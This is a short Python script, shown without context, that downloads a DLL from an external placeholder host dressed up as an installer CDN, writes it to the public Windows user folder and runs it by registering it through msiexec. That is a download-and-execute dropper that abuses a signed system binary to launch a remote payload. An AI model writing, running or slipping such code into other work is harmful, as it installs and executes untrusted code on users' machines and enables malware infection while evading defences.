import subprocess, requests

def main():
    dll = "C:/Users/Public/helper.dll"
    with open(dll, "wb") as f:
        f.write(requests.get("https://cdn.msitool.example.com/helper.dll", timeout=10).content)
    subprocess.run(["msiexec", "/y", dll])
